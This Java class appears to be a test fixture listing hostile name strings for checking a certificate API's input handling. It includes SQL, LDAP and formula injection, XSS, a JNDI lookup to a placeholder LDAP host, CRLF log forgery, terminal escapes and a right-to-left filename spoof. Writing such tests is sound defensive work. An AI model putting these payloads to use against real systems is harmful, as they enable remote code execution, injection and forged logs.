package org.scepgate.interop;

import java.util.List;
import java.util.stream.Stream;

/** Texts that are code somewhere. */
final class HostileTexts {
    private HostileTexts() {}

    /** What an API accepts in a name. */
    static List<String> visible() {
        return List.of(
                "'; drop table challenge; --",
                "' or '1'='1",
                "$1 ? :name ${jndi:ldap://192.0.2.1/a} {0} %s %n",
                "*)(uid=*))(|(uid=*",
                "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd",
                "-2+3;=1+1",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "x\" outcome=success reason=\"",
                "x\\\",\"outcome\":\"success");
    }

    /** What ends a line, drives a terminal or is not to be seen. */
    static List<String> unseen() {
        return List.of(
                "x\r\naction=certificate.issued outcome=success",
                "x\naction=certificate.issued",
                "x\r",
                "\u001b[2J\u001b]0;title\u0007",
                "x\u2028action=certificate.issued",
                "x\u2029\u0085\u000b\u000cy",
                "x\u202egnp.exe",
                "x\u0000y");
    }

    /** Those that a PrintableString can carry. */
    static List<String> controls() {
        return unseen().stream()
                .filter(text -> text.chars().anyMatch(character -> character < ' '))
                .toList();
    }

    /** Those that a user principal name may hold. */
    static List<String> sound() {
        return all().stream()
                .filter(text -> text.chars().noneMatch(Character::isISOControl))
                .toList();
    }

    static List<String> all() {
        return Stream.concat(visible().stream(), unseen().stream()).toList();
    }
}
